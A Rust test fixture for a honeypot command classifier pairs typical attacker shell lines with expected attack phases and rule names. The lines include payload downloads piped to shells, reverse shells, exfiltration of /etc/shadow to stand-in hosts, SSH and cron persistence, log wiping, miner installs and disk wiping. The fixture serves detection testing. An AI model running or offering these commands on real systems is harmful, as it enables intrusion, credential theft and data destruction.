//! Honeypot-style command lines with the phases and rules the shipped table
//! must give them (the case table of `tests/phase_rules.rs`).

use decnet_clusterd::phase::Phase::{self, *};

/// (command line as typed, first phase, last phase, rules hit by its
/// commands in order; commands that hit nothing are not listed).
pub type Case = (&'static str, Phase, Phase, &'static [&'static str]);

pub const CASES: &[Case] = &[
    // --- loaders: download, make executable, run
    (
        "cd /tmp || cd /var/run || cd /dev/shm; wget http://198.51.100.7/x.sh; chmod +x x.sh; sh x.sh",
        CommandAndControl,
        Execution,
        &["command_and_control.wget", "execution.chmod-exec", "execution.shell-script"],
    ),
    (
        "curl -fsSL http://198.51.100.7/i.sh | bash",
        CommandAndControl,
        Execution,
        &["command_and_control.curl", "execution.bare-shell"],
    ),
    (
        "cd /tmp; /bin/busybox tftp -g -r mips 198.51.100.9; /bin/busybox chmod 777 mips; ./mips telnet.mips; /bin/busybox rm -f mips",
        CommandAndControl,
        Execution,
        &[
            "command_and_control.tftp-ftp",
            "execution.chmod-exec",
            "execution.run-local",
            "execution.busybox",
        ],
    ),
    (
        "ftpget -v -u anonymous -p anonymous -P 21 198.51.100.9 arm7 arm7 && nohup ./arm7 >/dev/null 2>&1 &",
        CommandAndControl,
        Execution,
        &["command_and_control.tftp-ftp", "execution.run-local"],
    ),
    (
        "enable; system; shell; sh; /bin/busybox ECCHI",
        Execution,
        Discovery,
        &[
            "execution.bare-shell",
            "execution.bare-shell",
            "execution.bare-shell",
            "execution.bare-shell",
            "discovery.busybox-probe",
        ],
    ),
    (
        "dd bs=52 count=1 if=/bin/echo || cat /bin/echo",
        Discovery,
        Discovery,
        &["discovery.binary-header", "discovery.binary-header"],
    ),
    (
        "which wget curl tftp; command -v python3",
        Discovery,
        Discovery,
        &["discovery.tool-probe", "discovery.tool-probe"],
    ),
    // --- discovery, the usual opening of an interactive session
    (
        "uname -a; whoami; id; cat /etc/os-release",
        Discovery,
        Discovery,
        &["discovery.system-info", "discovery.user", "discovery.user", "discovery.system-info"],
    ),
    (
        "cat /proc/cpuinfo | grep name | wc -l",
        Discovery,
        Discovery,
        &["discovery.cpu"],
    ),
    (
        "lscpu | grep Model; nproc; free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
        Discovery,
        Discovery,
        &["discovery.cpu", "discovery.cpu", "discovery.memory-disk"],
    ),
    (
        "df -h | head -n 2; w; uptime; ps aux | grep -v grep",
        Discovery,
        Discovery,
        &["discovery.memory-disk", "discovery.user", "discovery.uptime-load", "discovery.processes"],
    ),
    (
        "ifconfig; ip a; netstat -tulpn; ss -antp; cat /etc/resolv.conf",
        Discovery,
        Discovery,
        &[
            "discovery.network",
            "discovery.network",
            "discovery.network",
            "discovery.network",
            "discovery.network",
        ],
    ),
    (
        "lspci | grep -i vga; nvidia-smi -L",
        Discovery,
        Discovery,
        &["discovery.gpu", "discovery.gpu"],
    ),
    (
        "cat /etc/passwd | grep -v nologin; getent group sudo",
        Discovery,
        Discovery,
        &["discovery.accounts", "discovery.accounts"],
    ),
    (
        "curl -s ifconfig.me; curl -s https://ipinfo.io/ip",
        Discovery,
        Discovery,
        &["discovery.external-ip", "discovery.external-ip"],
    ),
    (
        "ls -la /tmp; pwd; find / -perm -4000 -type f 2>/dev/null",
        Discovery,
        Discovery,
        &["discovery.files", "discovery.files", "discovery.files"],
    ),
    (
        "echo $SHELL; printenv",
        Discovery,
        Discovery,
        &["discovery.environment", "discovery.environment"],
    ),
    (
        "crontab -l; sudo -l; docker ps -a",
        Discovery,
        Discovery,
        &["discovery.software", "discovery.software", "discovery.software"],
    ),
    (
        "cat ~/.ssh/known_hosts; ping -c 1 10.0.0.1; masscan 10.0.0.0/8 -p22 --rate 10000",
        Discovery,
        Discovery,
        &["discovery.remote-systems", "discovery.remote-systems", "discovery.remote-systems"],
    ),
    (
        "top -bn1 | head -n 5; cat /proc/loadavg",
        Discovery,
        Discovery,
        &["discovery.uptime-load", "discovery.uptime-load"],
    ),
    // --- persistence
    (
        "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC0x mdrfckr\" >> .ssh/authorized_keys && chmod -R go= ~/.ssh",
        Persistence,
        Persistence,
        &[
            "persistence.ssh-dir",
            "persistence.ssh-dir",
            "persistence.authorized-keys",
            "persistence.ssh-dir",
        ],
    ),
    (
        "cat /tmp/k.pub | tee -a /root/.ssh/authorized_keys",
        Persistence,
        Persistence,
        &["persistence.authorized-keys"],
    ),
    (
        "(crontab -l 2>/dev/null; echo \"*/5 * * * * curl -s http://198.51.100.7/c.sh | sh\") | crontab -",
        Discovery,
        Persistence,
        // Patterns see quoted text too: the cron line's download counts.
        &["discovery.software", "command_and_control.curl", "persistence.crontab"],
    ),
    (
        "echo '* * * * * root /tmp/.x/upd >/dev/null 2>&1' > /etc/cron.d/0systemd",
        Persistence,
        Persistence,
        &["persistence.cron-files"],
    ),
    (
        "cp /tmp/.x/dbus.service /etc/systemd/system/ && systemctl daemon-reload && systemctl enable dbus && systemctl start dbus",
        Persistence,
        Execution,
        &["persistence.systemd", "persistence.systemd", "persistence.systemd", "execution.service-start"],
    ),
    (
        "echo \"/tmp/.x/upd &\" >> /etc/rc.local; update-rc.d upd defaults",
        Persistence,
        Persistence,
        &["persistence.init-scripts", "persistence.init-scripts"],
    ),
    (
        "echo 'nohup /dev/shm/.b >/dev/null 2>&1 &' >> ~/.bashrc",
        Persistence,
        Persistence,
        &["persistence.shell-rc"],
    ),
    (
        "useradd -m -s /bin/bash sysadm; echo 'sysadm:Xk29!pq' | chpasswd; echo 'r00t:x:0:0::/root:/bin/bash' >> /etc/passwd",
        Persistence,
        Persistence,
        &["persistence.account-create", "persistence.password-change", "persistence.account-create"],
    ),
    (
        "echo -e \"N3wPass\\nN3wPass\" | passwd root",
        Persistence,
        Persistence,
        &["persistence.password-change"],
    ),
    (
        "sed -i 's/^#\\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config; service ssh restart",
        Persistence,
        Execution,
        &["persistence.sshd-config", "execution.service-start"],
    ),
    // --- privilege escalation
    (
        "echo 'sysadm ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers; chmod u+s /bin/bash; sudo su",
        PrivilegeEscalation,
        PrivilegeEscalation,
        &[
            "privilege_escalation.sudoers",
            "privilege_escalation.setuid",
            "privilege_escalation.su-sudo",
        ],
    ),
    // --- credential access
    (
        "cat /etc/shadow; cat ~/.ssh/id_rsa; cat ~/.ssh/id_rsa.pub",
        CredentialAccess,
        CredentialAccess,
        &["credential_access.shadow", "credential_access.private-keys"],
    ),
    (
        "grep -i pass ~/.bash_history; history",
        CredentialAccess,
        CredentialAccess,
        &["credential_access.history-read", "credential_access.history-read"],
    ),
    (
        "cat ~/.aws/credentials; cat /var/www/html/wp-config.php",
        CredentialAccess,
        CredentialAccess,
        &["credential_access.credential-files", "credential_access.credential-files"],
    ),
    (
        "grep -rI 'password' /var/www 2>/dev/null | head",
        CredentialAccess,
        CredentialAccess,
        &["credential_access.grep-secrets"],
    ),
    (
        "python3 /tmp/laZagne.py all",
        CredentialAccess,
        CredentialAccess,
        &["credential_access.dumpers"],
    ),
    // --- defense evasion
    (
        "unset HISTFILE; export HISTSIZE=0; history -c",
        DefenseEvasion,
        DefenseEvasion,
        &[
            "defense_evasion.history-disable",
            "defense_evasion.history-disable",
            "defense_evasion.history-clear",
        ],
    ),
    (
        "cat /dev/null > ~/.bash_history && ln -sf /dev/null ~/.bash_history",
        DefenseEvasion,
        DefenseEvasion,
        &["defense_evasion.history-wipe", "defense_evasion.history-wipe"],
    ),
    (
        "rm -rf /var/log/*; echo > /var/log/wtmp; find /var/log -type f -delete",
        DefenseEvasion,
        DefenseEvasion,
        &["defense_evasion.log-wipe", "defense_evasion.log-wipe", "defense_evasion.log-wipe"],
    ),
    (
        "chattr -ia ~/.ssh/authorized_keys; lockr -ia .ssh",
        DefenseEvasion,
        DefenseEvasion,
        &["defense_evasion.chattr", "defense_evasion.chattr"],
    ),
    (
        "iptables -F; ufw disable; systemctl stop firewalld; setenforce 0",
        DefenseEvasion,
        DefenseEvasion,
        &[
            "defense_evasion.firewall",
            "defense_evasion.firewall",
            "defense_evasion.firewall",
            "defense_evasion.firewall",
        ],
    ),
    (
        "pkill -9 -f aliyun-service; /usr/local/aegis/uninstall.sh",
        DefenseEvasion,
        DefenseEvasion,
        &["defense_evasion.security-agents", "defense_evasion.security-agents"],
    ),
    (
        "echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaAo= | base64 -d | sh",
        DefenseEvasion,
        Execution,
        &["defense_evasion.decode", "execution.bare-shell"],
    ),
    (
        "echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload",
        DefenseEvasion,
        DefenseEvasion,
        &["defense_evasion.preload"],
    ),
    (
        "touch -r /bin/ls /usr/bin/.dbus; mount -o bind /tmp/.e /proc/4242",
        DefenseEvasion,
        DefenseEvasion,
        &["defense_evasion.timestomp", "defense_evasion.hide-process"],
    ),
    // --- command and control
    (
        "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
        CommandAndControl,
        CommandAndControl,
        &["command_and_control.dev-tcp"],
    ),
    (
        "nc -e /bin/sh 198.51.100.7 4444 || ncat 198.51.100.7 4444 -e /bin/bash",
        CommandAndControl,
        CommandAndControl,
        &["command_and_control.netcat", "command_and_control.netcat"],
    ),
    (
        "ssh -fNR 2222:localhost:22 tun@198.51.100.7",
        CommandAndControl,
        CommandAndControl,
        &["command_and_control.tunnel"],
    ),
    (
        "scp -P 2200 u@198.51.100.7:/srv/kit.tgz .",
        CommandAndControl,
        CommandAndControl,
        &["command_and_control.scp-in"],
    ),
    (
        "apt-get install -y masscan; git clone https://example.org/kit.git",
        CommandAndControl,
        CommandAndControl,
        &["command_and_control.package-fetch", "command_and_control.package-fetch"],
    ),
    (
        "python3 -c \"import urllib.request; urllib.request.urlretrieve('http://198.51.100.7/b', '/tmp/b')\"",
        CommandAndControl,
        CommandAndControl,
        &["command_and_control.script-download"],
    ),
    // --- lateral movement
    (
        "sshpass -p 'admin123' ssh -o StrictHostKeyChecking=no root@10.0.0.5 'uname -a'",
        LateralMovement,
        LateralMovement,
        &["lateral_movement.ssh-out"],
    ),
    // --- exfiltration
    (
        "curl -T /tmp/loot.tgz ftp://198.51.100.2/ --user a:a; curl -F 'f=@/etc/shadow' http://198.51.100.2/u",
        Exfiltration,
        Exfiltration,
        &["exfiltration.curl-upload", "exfiltration.curl-upload"],
    ),
    (
        "wget --post-file=/etc/passwd http://198.51.100.2/p",
        Exfiltration,
        Exfiltration,
        &["exfiltration.wget-post"],
    ),
    (
        "scp /tmp/loot.tgz u@198.51.100.2:/srv/in/",
        Exfiltration,
        Exfiltration,
        &["exfiltration.scp-out"],
    ),
    (
        "nc 198.51.100.2 9000 < /tmp/loot.tgz; cat /etc/shadow > /dev/tcp/198.51.100.2/80",
        Exfiltration,
        Exfiltration,
        &["exfiltration.netcat-file", "exfiltration.dev-tcp-write"],
    ),
    (
        "busybox ftpput -u a -p a 198.51.100.2 p /etc/passwd",
        Exfiltration,
        Exfiltration,
        &["exfiltration.ftp-upload"],
    ),
    // --- collection
    (
        "tar czf /tmp/.b.tgz /home /etc /var/www; zip -r /tmp/w.zip /var/www; tar xzf kit.tgz",
        Collection,
        Collection,
        &["collection.archive", "collection.archive"],
    ),
    (
        "mysqldump --all-databases > /tmp/db.sql; mysql -u root -e 'select * from mysql.user'",
        Collection,
        Collection,
        &["collection.databases", "collection.databases"],
    ),
    (
        "cat /var/mail/root; find / -name wallet.dat 2>/dev/null",
        Collection,
        Collection,
        &["collection.mail", "collection.wallets"],
    ),
    // --- impact
    (
        "cd /tmp; wget -q http://198.51.100.7/xmrig.tar.gz; tar xzf xmrig.tar.gz; ./xmrig -o stratum+tcp://pool.example.net:3333 -u 4A... --donate-level 1 -B",
        CommandAndControl,
        Impact,
        // Unpacking the miner names it, so it counts as the miner too.
        &["command_and_control.wget", "impact.miner", "impact.miner"],
    ),
    (
        "pkill -9 -f kdevtmpfsi; killall -9 minerd; ps aux | grep -i kinsing | awk '{print $2}' | xargs kill -9",
        Impact,
        Impact,
        &[
            "impact.kill-competitors",
            "impact.kill-competitors",
            "discovery.processes",
            "impact.kill-competitors",
        ],
    ),
    (
        "sysctl -w vm.nr_hugepages=1280; modprobe msr",
        Impact,
        Impact,
        &["impact.miner-tuning", "impact.miner-tuning"],
    ),
    (
        "rm -rf --no-preserve-root /; dd if=/dev/zero of=/dev/sda bs=1M",
        Impact,
        Impact,
        &["impact.wipe-root", "impact.disk-overwrite"],
    ),
    (
        "cat /dev/urandom > /dev/vda; reboot",
        Impact,
        Impact,
        &["impact.disk-redirect", "impact.shutdown"],
    ),
    (":(){ :|:& };:", Impact, Impact, &["impact.fork-bomb"]),
    // --- execution odds and ends
    (
        "perl -e 'use Socket;' ; python -c 'print(1)'; . ./env.sh; eval \"$CMD\"",
        Execution,
        Execution,
        &[
            "execution.interpreters",
            "execution.interpreters",
            "execution.source-eval",
            "execution.source-eval",
        ],
    ),
    (
        "screen -dmS s /usr/bin/.x; setsid /usr/bin/.y",
        Execution,
        Execution,
        &["execution.background", "execution.background"],
    ),
];
